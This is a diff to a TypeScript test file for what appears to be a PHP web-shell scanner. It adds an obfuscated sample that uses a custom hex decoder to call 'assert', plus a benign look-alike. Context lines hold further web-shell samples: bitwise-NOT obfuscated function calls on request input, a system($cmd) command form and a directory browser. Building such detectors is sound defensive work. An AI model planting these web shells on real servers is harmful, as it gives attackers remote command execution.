@@ -35,6 +35,7 @@ const MALICIOUS: [string, string, string][] = [
   ['a call of a variable named by underscores, its name made by ~ of bytes picked out of strings', '/var/www/html/q.php', `<?php\n$__ = 2; $_ = 1;\n$____ = '';\n$___ = "\\x9e\\x8c"; $____ .= ~($___{$__ - 2}); $____ .= ~($___{$_});\n$_____ = '_'; $___ = "\\xaf\\xb0"; $_____ .= ~($___{0});\n$_ = $$_____;\n$____($_[_]);\n`],
   ['a register_globals command form whose command has a default only when the field is empty', '/var/www/html/s.php', `<?php\nif ($cmd == "") { $cmd = 'dir /x'; }\necho '<pre>'; system($cmd); echo '</pre>';\n?>\n<form method="post"><input type="text" name="cmd" value=""><input type="submit"></form>\n`],
   ['a function name made by ~ of high bytes, called with request input', '/var/www/html/t.php', Buffer.from([...Buffer.from('<?php $x=~'), 0xbe, 0xac, 0xac, 0xba, 0xad, 0xab, ...Buffer.from(";$x($_POST['k']); ?>")]).toString('latin1')],
+  ['a variable called with a name and an argument the file\'s own hex character decoder makes of literals', '/var/www/html/u.php', `<?php\nfunction dh($s, $k) {\n  $t = '';\n  for ($i = 0; $i < strlen($s); $i += 2) $t .= chr(hexdec(substr($s, $i, 2)) - (int) substr($k, ($i / 2) % strlen($k), 1));\n  return $t;\n}\n(@$_ = dh('${Buffer.from(Buffer.from('assert').map((c, i) => c + Number('31'[i % 2]))).toString('hex')}', '13')) . @$_(dh('${Buffer.from(Buffer.from('print 1;').map((c, i) => c + Number('24'[i % 2]))).toString('hex')}', '42'));\n`],
   ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
 ];
 
@@ -52,6 +53,7 @@ const LOOKALIKES: [string, string, string][] = [
   ['a disk report by drive letter, with no folder listed', '/var/www/html/disks.php', `<?php\n$unit = $_GET['unit'] === 'mb' ? 1048576 : 1073741824;\nforeach (range('c', 'z') as $l) if (is_dir($l . ':')) printf('%s: %.1f free<br>', $l, disk_free_space($l . ':') / $unit);\n`],
   ['a command form whose command is set from a fixed list in a loop', '/var/www/html/jobs.php', `<?php\nforeach (array('uptime', 'df -h') as $cmd) { echo '<pre>'; system($cmd); echo '</pre>'; }\n?>\n<form method="post"><select name="cmd"><option>uptime</option></select></form>\n`],
   ['a bit mask made by ~ beside a request parameter', '/var/www/html/mask.php', `<?php\n$m = ~0x0f;\n$f = 'intval';\necho $f($_GET['n']) & $m;\n`],
+  ['a hex decoder of the file\'s own making a label, printed; a formatter called by variable', '/var/www/html/hexlabel.php', `<?php\nfunction unhex($s) { $t = ''; for ($i = 0; $i < strlen($s); $i += 2) $t .= chr(hexdec(substr($s, $i, 2))); return $t; }\n$label = unhex('48656c6c6f');\n$fmt = 'strtoupper';\necho $fmt($label);\n`],
   ['a string with an escaped dollar sign and a str_replace, printed', '/var/www/html/price.php', `<?php\n$t = "Price: \\$AMOUNT";\n$t = str_replace('AMOUNT', number_format((float) $_GET['p'], 2), $t);\necho htmlspecialchars($t);\n`],
 ];
 
@@ -62,7 +64,7 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 19));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 20));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -70,5 +72,5 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
 });
